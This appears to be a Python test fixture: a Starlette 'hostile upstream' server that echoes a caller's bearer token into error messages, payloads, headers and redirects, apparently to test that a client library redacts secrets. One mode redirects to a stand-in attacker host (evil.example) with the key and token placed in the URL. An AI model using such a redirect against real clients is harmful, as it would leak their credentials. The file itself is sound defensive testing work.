"""A hostile upstream: an HTTP app that quotes the caller's ``Authorization`` back in every place
an API or a proxy might, one mode at a time. Served in process (``httpx2.ASGITransport``) for the
quick tests and by uvicorn on loopback for the slow proof.

``POST /__mode/{name}`` switches the mode; every other request is answered by the mode.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any
from urllib.parse import quote

from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, PlainTextResponse, Response
from starlette.routing import Route

OTHER_TOKEN = "otherTOKEN0123456789abcdef"
"""A bearer token that is not the configured key: redacted all the same."""

Answer = Callable[[str, str, Request], Response]


def _json(status: int, body: Any, **headers: str) -> Response:
    return JSONResponse(body, status_code=status, headers={"Retry-After": "0", **headers})


def _raw(status: int, text: str, media_type: str = "application/json", **headers: str) -> Response:
    return Response(text, status_code=status, media_type=media_type, headers={"Retry-After": "0", **headers})


def _escaped(text: str) -> str:
    return "".join(f"\\u{ord(c):04x}" for c in text)


def _echo_data(auth: str, key: str, request: Request) -> Any:
    """A success that quotes the key in every field a view, prompt or completion shows."""
    item = {
        "mission_id": key,
        "run_id": key,
        "step_id": key,
        "event_id": key,
        "name": auth,
        "description": f"{auth} and Bearer {OTHER_TOKEN}",
        "summary": f"Bearer {OTHER_TOKEN}",
        "status": "running",
        "type": "message",
        "sequence": 1,
        "timestamp": "2026-01-01T00:00:00Z",
        "started_at": key,
        "result_summary": auth,
        "error": key,
        "payload": {key: auth},
        "metadata": {"auth": auth},
    }
    last = request.url.path.rstrip("/").rsplit("/", 1)[-1]
    listing = request.method == "GET" and last in {
        "missions",
        "runs",
        "events",
        "steps",
        "tools",
        "knowledge-bases",
        "mcp-servers",
        "telnyx-agents",
    }
    if listing:
        return {
            "data": [item],
            "meta": {"page_number": 1, "page_size": 20, "total_pages": 1, "total_results": 1, "note": auth},
        }
    if last == "plan" and request.method == "GET":
        return {"data": [item]}
    return {"data": item}


MODES: dict[str, Answer] = {
    "detail": lambda auth, key, r: _json(400, {"detail": f"invalid token {auth}; also Bearer {OTHER_TOKEN}"}),
    "detail-list": lambda auth, key, r: _json(
        422, {"detail": [{"loc": ["header", "authorization", key], "msg": f"bad {auth}", "type": "x", "input": auth}]}
    ),
    "message": lambda auth, key, r: _json(401, {"message": f"Key {key} is revoked"}),
    "title": lambda auth, key, r: _json(403, {"title": key, "detail": {"nested": auth}}),
    "errors": lambda auth, key, r: _json(
        500, {"errors": [{"code": "x", "title": auth, "detail": key, "source": {"header": auth}}, key, {"meta": key}]}
    ),
    "conflict": lambda auth, key, r: _json(409, {"detail": auth}, **{"x-should-retry": "false"}),
    "rate-limited": lambda auth, key, r: _json(429, {"detail": auth, "message": key}),
    "not-found": lambda auth, key, r: _json(404, {"detail": f"no such thing for {auth}"}),
    "html": lambda auth, key, r: _raw(502, f"<html><pre>Authorization: {auth}</pre>{key}</html>", "text/html"),
    "invalid-json": lambda auth, key, r: _raw(200, f'{{"data": "{auth}'),
    "invalid-json-error": lambda auth, key, r: _raw(400, f'{{"detail": "{key}"'),
    "escaped": lambda auth, key, r: _raw(400, f'{{"detail": "{_escaped(auth)}"}}'),
    "escaped-success": lambda auth, key, r: _raw(200, json.dumps(_echo_data(auth, key, r)).replace(key, _escaped(key))),
    "redirect": lambda auth, key, r: _raw(
        302, "", "text/plain", Location=f"https://evil.example/{key}?auth={quote(auth)}"
    ),
    "redirect-same-host": lambda auth, key, r: _raw(
        307, f"moved {auth}", "text/plain", Location=f"/v2/{key}/elsewhere?token={key}"
    ),
    "header-echo": lambda auth, key, r: _json(
        400, {"detail": "no"}, **{"X-Echo": auth, "WWW-Authenticate": f'Bearer realm="{key}"'}
    ),
    "echo-success": lambda auth, key, r: _json(
        201 if r.method == "POST" else 200, _echo_data(auth, key, r), **{"X-Echo": auth}
    ),
}


def hostile_app() -> Starlette:
    state = {"mode": "detail", "requests": 0}

    async def switch(request: Request) -> Response:
        mode = request.path_params["mode"]
        if mode not in MODES:
            return PlainTextResponse(f"unknown mode {mode}", status_code=404)
        state["mode"] = mode
        return PlainTextResponse(mode)

    async def answer(request: Request) -> Response:
        state["requests"] += 1
        await request.body()
        auth = request.headers.get("authorization", "")
        key = auth.removeprefix("Bearer ")
        return MODES[str(state["mode"])](auth, key, request)

    async def count(request: Request) -> Response:
        return JSONResponse(state)

    methods = ["GET", "POST", "PUT", "PATCH", "DELETE"]
    app = Starlette(
        routes=[
            Route("/__mode/{mode}", switch, methods=["POST"]),
            Route("/__state", count, methods=["GET"]),
            Route("/{path:path}", answer, methods=methods),
        ]
    )
    app.state.hostile = state
    return app
